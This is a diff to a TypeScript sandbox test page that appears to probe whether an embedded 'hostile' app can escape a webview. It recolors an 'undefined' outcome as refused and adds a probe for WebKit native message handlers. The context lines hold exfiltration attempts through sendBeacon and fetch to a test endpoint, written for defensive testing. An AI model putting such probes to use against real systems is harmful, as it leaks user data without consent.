@@ -125,7 +125,7 @@ async function main(config: HostileAppConfig, ownScript: string): Promise<void> 
     });
     cells[1]!.dataset["outcome"] = outcome;
     // Green: refused. Grey: no error, and the test's listeners say whether anything left. Red: it got out.
-    cells[1]!.style.color = /^(?:threw|rejected|removed|absent|error event|false$|none$)/.test(outcome) ? "#116611" : /^(?:appended|true)$/.test(outcome) ? "#555555" : "#bb0000";
+    cells[1]!.style.color = /^(?:threw|rejected|removed|absent|error event|false$|none$|undefined$)/.test(outcome) ? "#116611" : /^(?:appended|true)$/.test(outcome) ? "#555555" : "#bb0000";
   };
   const attempt = async (name: string, fn: () => unknown): Promise<void> => {
     try {
@@ -251,6 +251,9 @@ async function main(config: HostileAppConfig, ownScript: string): Promise<void> 
     }));
     await attempt("navigator.sendBeacon", () => navigator.sendBeacon(`${tcp}/beacon`, "exfil"));
     await attempt("fetch", () => fetch(`${tcp}/fetch`, { mode: "no-cors" }).then(() => "RESOLVED", (error: unknown) => `rejected ${errorName(error)}`));
+    // A native webview's message handlers (WebKit's window.webkit.messageHandlers): the desktop host keeps its
+    // own in an isolated world, so an app's frame must not see any.
+    await attempt("window.webkit (native message handlers)", () => typeof (window as unknown as { webkit?: unknown }).webkit);
     report("nested realms that ran", nestedRan.map((ran) => ran.route).join(", ") || "none");
   };
 
